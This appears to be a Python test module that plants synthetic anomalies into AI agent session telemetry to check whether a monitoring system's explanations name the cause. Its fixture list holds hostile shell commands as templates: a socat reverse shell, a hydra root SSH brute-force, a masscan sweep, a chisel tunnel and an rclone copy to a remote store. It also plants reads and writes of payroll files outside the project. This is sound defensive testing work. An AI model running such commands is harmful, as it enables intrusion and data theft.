"""Causes planted in ordinary sessions, to see whether the first reason names them.

Each cause changes one thing about a session, strongly. What counts as naming it was written down with the cause: the
features that measure that very thing, not those that merely move with it.
"""

from __future__ import annotations

import zlib
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from itertools import cycle, islice, pairwise
from typing import Any, Final

import numpy as np

from analytics.features.sequence import POLLING_TOOLS
from analytics.simulation import UnusableSessionError
from analytics.simulation.deeds import Deed
from analytics.simulation.dice import Dice
from analytics.simulation.recorder import ToolUse
from analytics.simulation.scene import Dose, Scene
from analytics.simulation.splice import splice
from analytics.simulation.stamps import HOUR, microseconds_of, restamped
from analytics.verdicts import Reason

Record = dict[str, Any]
Plant = Callable[[Sequence[Record], np.random.Generator], list[Record]]

REPEATS: Final = 31
_TOKENS: Final = ("input_tokens", "output_tokens", "cache_read_tokens", "cache_creation_tokens", "cost_usd")
_ERRORS: Final = ("exit_code:1", "exit_code:2", "timeout", "exit_code:127")
_ELSEWHERE: Final = (
    Deed("read", "/var/ledger/{word}-{n}.csv"), Deed("edit", "/var/ledger/{word}.yml"),
    Deed("read", "/var/payroll/{word}-{n}.txt"), Deed("write", "/var/payroll/{word}-{n}.md"),
)  # fmt: skip
"""Outside any project, also one of which the telemetry tells the mere name (see ``analytics.scope``)."""
_UNHEARD_OF: Final = tuple(
    Deed("shell", command)
    for command in (
        "socat TCP:{host}:{n} EXEC:sh", "tcpdump -i any -w {word}.pcap", "masscan 10.0.0.0/8 -p{n}",
        "hydra -l root ssh://{host}", "chisel client {host}:{n} R:socks", "rclone copy {word} vault:{word}",
    )
)  # fmt: skip
_PROGRAMS: Final = tuple(deed.text.partition(" ")[0] for deed in _UNHEARD_OF)
_UNKNOWN_TOOLS: Final = tuple(f"mcp__ledger__{verb}" for verb in ("open", "post", "void", "seal", "audit"))
_LEAST_TOOLS: Final = 4
_NIGHT_MS: Final = HOUR
"""A session at night begins at one o'clock."""
_DAY_US: Final = 24 * HOUR * 1_000


@dataclass(frozen=True, slots=True)
class Cause:
    """One strong cause.

    Attributes:
        name: for tables.
        plant: the records of a session with the cause in them; raises ``UnusableSessionError`` where it cannot be.
        accepted: features of the reasons that name it, each with words in small letters of which the reason's text
            must hold one.
        measured_by: features of which one rises beyond the range of the user's own sessions where the cause is none of
            their habits; () where every session with it is unlike all others.
    """

    name: str
    plant: Plant
    accepted: Mapping[str, tuple[str, ...]]
    measured_by: tuple[str, ...] = ()

    def is_named_by(self, reason: Reason) -> bool:
        """Whether a reason names the cause; a text begins with a capital, whatever its first word is."""
        text = reason.text.casefold()
        return any(word in text for word in self.accepted.get(reason.feature, ()))


def _acted(act: Callable[[Scene], None], acts: int) -> Plant:
    """A cause that is something done, so many times, somewhere in the session."""

    def plant(records: Sequence[Record], rng: np.random.Generator) -> list[Record]:
        return splice(records, act, Dose(acts, acts), Dice(rng), ()).records

    return plant


def _uses_before(scene: Scene) -> list[ToolUse]:
    """The session's uses of tools so far, with their own arguments, sizes and durations."""
    calls: dict[str, Record] = {}
    uses = []
    for record in scene.past:
        key = str(record.get("tool_use_id") or record.get("tool_name"))
        if record["event"] == "tool_call":
            calls[key] = record
        if record["event"] == "tool_result" and record.get("tool_name") and record.get("success"):
            call = {**calls.get(key, {}), **record}
            sizes = [int(call.get(name) or 0) for name in ("duration_ms", "tool_output_chars", "tool_input_chars")]
            arguments = call.get("tool_input") or {}
            uses.append(ToolUse(call["tool_name"], arguments, sizes[0], sizes[1], given=True, input_chars=sizes[2]))
    if not uses:
        raise UnusableSessionError("nothing has been done yet that could be done again; give a longer session")
    return uses


def _repeat(scene: Scene) -> None:
    used = [use for use in _uses_before(scene) if use.tool_name not in POLLING_TOOLS and use.tool_input]
    if not used:
        raise UnusableSessionError("a session without known arguments cannot repeat a call; give one with details")
    use = scene.dice.pick(used)
    for _ in range(scene.acts()):
        scene.play(use)


def _anew(use: ToolUse, number: int) -> ToolUse:
    """The use with other arguments, a little longer or shorter."""
    own = {**use.tool_input, "part": number}
    if "args_hash" in own:
        own["args_hash"] = f"{zlib.crc32(str((number, own['args_hash'])).encode()):08x}"
    return replace(use, tool_input=own, input_chars=(use.input_chars or 0) + number % 7)


def _fail(scene: Scene) -> None:
    """The last uses once more, in the order they had: only that they fail is new."""
    acts = scene.acts()
    for number, use in enumerate(islice(cycle(_uses_before(scene)[-acts:]), acts)):
        scene.play(replace(_anew(use, number), error=scene.dice.pick(_ERRORS)))


def _deeds(deeds: Sequence[Deed]) -> Callable[[Scene], None]:
    """The last uses of the deeds' tools once more, in the order they had: only what is done with them is new."""

    def act(scene: Scene) -> None:
        tools = [scene.vocabulary.tool(deed.role) for deed in deeds]
        turns = {name: cycle([deed for deed, tool in zip(deeds, tools, strict=True) if tool == name]) for name in tools}
        alike, acts = [use for use in _uses_before(scene) if use.tool_name in turns], scene.acts()
        if not alike:
            raise UnusableSessionError("none of the tools has been used yet; give a longer session")
        for use in islice(cycle(alike[-acts:]), acts):
            scene.play(replace(use, tool_input=scene.tool_input(next(turns[use.tool_name])), given=False))

    return act


def _delegate(scene: Scene) -> None:
    """More sub-agents, each started as those before."""
    tool = scene.vocabulary.tool("agent")
    used = [use for use in _uses_before(scene) if use.tool_name == tool]
    if not used:
        raise UnusableSessionError("a session without sub-agents starts none; give one that has some")
    for number in range(scene.acts()):
        helper: Record = {"child_session_id": scene.dice.uuid(), "persona": "general-purpose"}
        scene.play(replace(_anew(scene.dice.pick(used), number), helper=helper))


def _disorder(scene: Scene) -> None:
    """The session's own tools, one after the other in pairs that it never had."""
    used = _uses_before(scene)
    had = {(one.tool_name, other.tool_name) for one, other in pairwise(used)}
    tools = sorted({use.tool_name for use in used})
    if len(tools) < _LEAST_TOOLS:
        raise UnusableSessionError(f"fewer than {_LEAST_TOOLS} tools have no foreign order; give one with more")
    last = used[-1].tool_name
    for number in range(scene.acts()):
        last = scene.dice.pick([tool for tool in tools if (last, tool) not in had] or tools)
        scene.play(_anew(scene.dice.pick([use for use in used if use.tool_name == last]), number))


def _use_unknown_tools(scene: Scene) -> None:
    """Tools that nobody has, each used as one of the session's own."""
    used = _uses_before(scene)
    for number in range(scene.acts()):
        use = _anew(scene.dice.pick(used), number)
        scene.play(replace(use, tool_name=scene.dice.pick(_UNKNOWN_TOOLS)))


def _scaled(records: Sequence[Record], factor: int, columns: Sequence[str]) -> list[Record]:
    changed = [
        {name: value * factor if name in columns and _is_number(value) else value for name, value in record.items()}
        for record in records
    ]
    if changed == list(records):
        raise UnusableSessionError("nothing of the kind is in the records; give a session that tells")
    return changed


def _is_number(value: object) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _burn(records: Sequence[Record], rng: np.random.Generator) -> list[Record]:
    del rng
    return _scaled(records, 20, _TOKENS)


def _swell(records: Sequence[Record], rng: np.random.Generator) -> list[Record]:
    del rng
    used = Counter(record["tool_name"] for record in records if record.get("tool_output_chars"))
    if not used:
        raise UnusableSessionError("no tool's output has a size; give a session that tells")
    tool = min(used, key=lambda name: (-used[name], name))
    return [
        {**record, "tool_output_chars": record["tool_output_chars"] * 50}
        if record.get("tool_name") == tool and record.get("tool_output_chars")
        else record
        for record in records
    ]


def _move_to_night(records: Sequence[Record], rng: np.random.Generator) -> list[Record]:
    del rng
    first = min(microseconds_of(record["timestamp"]) for record in records)
    delay = first // _DAY_US * _DAY_US + _NIGHT_MS * 1_000 - first
    return _delayed(records, delay)


def _delayed(records: Sequence[Record], delay: int) -> list[Record]:
    return [
        {**one, "timestamp": restamped(one["timestamp"], microseconds_of(one["timestamp"]) + delay)} for one in records
    ]


def fall_silent(records: Sequence[Record], hours: int) -> list[Record]:
    """The session with one long silence in the middle: a person at lunch or asleep, and no cause for anything."""
    ordered = sorted(records, key=lambda record: microseconds_of(record["timestamp"]))
    middle = len(ordered) // 2
    return ordered[:middle] + _delayed(ordered[middle:], hours * HOUR * 1_000)


ANY: Final = ("",)
"""Words that every text holds."""
_NAMES_REPETITION: Final = dict.fromkeys(("identical_run_longest", "repetition_ratio", "same_size_run_longest"), ANY)
_NAMES_FAILURE: Final = dict.fromkeys(("error_ratio", "error_run_longest", "retry_ratio"), ANY)
_NAMES_TOKENS: Final = dict.fromkeys(
    ("tokens_total", "tokens_per_operation", "output_tokens_mean", "context_tokens_max", "cost_usd_total",
     "cost_usd_per_operation"), ANY
)  # fmt: skip
_NAMES_ORDER: Final = dict.fromkeys(
    ("sequence_surprise_bits", "transition_entropy_bits", "sequence_complexity", "tool_diversity", "same_tool_ratio",
     "read_write_cycles_ratio"), ANY
)  # fmt: skip
_OUTPUT_SIZES: Final = ("tool_output_median_chars", "tool_output_p95_chars")
_PLACES: Final = ("scope_violations_ratio", "scope_violation_writes")

CAUSES: Final = (
    Cause("the same call 31 times in a row", _acted(_repeat, REPEATS), _NAMES_REPETITION, ("identical_run_longest",)),
    Cause("30 failing calls", _acted(_fail, 30), _NAMES_FAILURE, ("error_run_longest", "error_ratio")),
    Cause("tokens x 20", _burn, {**_NAMES_TOKENS, "step_novelty": ("output tokens",)}, ("tokens_per_operation",)),
    Cause("30 uses of files outside the project", _acted(_deeds(_ELSEWHERE), 30),
          {**dict.fromkeys(_PLACES, ANY), "new_words": ("/var",)}, _PLACES),
    Cause("the whole session at night", _move_to_night, {"off_hours_ratio": ANY}, ("off_hours_ratio",)),
    Cause("output of one tool x 50", _swell,
          {**dict.fromkeys(_OUTPUT_SIZES, ANY), "step_novelty": ("output size",)}, _OUTPUT_SIZES),
    Cause("12 uses of programs never heard of", _acted(_deeds(_UNHEARD_OF), 12),
          {"new_words": ANY, "sequence_surprise_bits": _PROGRAMS}),
    Cause("24 own tools in a foreign order", _acted(_disorder, 24), _NAMES_ORDER),
    Cause("24 uses of tools that nobody has", _acted(_use_unknown_tools, 24),
          {**_NAMES_ORDER, "distinct_tools": ANY, "mcp_tools_ratio": ANY, "new_words": ("ledger",)}),
    Cause("50 sub-agents", _acted(_delegate, 50), dict.fromkeys(("subagents_started", "agent_tools_ratio"), ANY),
          ("subagents_started",)),
)  # fmt: skip


def planted(sessions: Mapping[str, Sequence[Record]], cause: Cause, seed: int) -> list[Record]:
    """The records of some sessions, each with the cause in it; those that cannot have it are left out.

    Args:
        sessions: records by session id.
        cause: what to plant.
        seed: of where and how; what a session gets does not depend on the other sessions.
    """
    records: list[Record] = []
    for session_id, own in sessions.items():
        rng = np.random.default_rng((seed, zlib.crc32(f"{cause.name} {session_id}".encode())))
        try:
            records += cause.plant(own, rng)
        except UnusableSessionError:
            continue
    return records
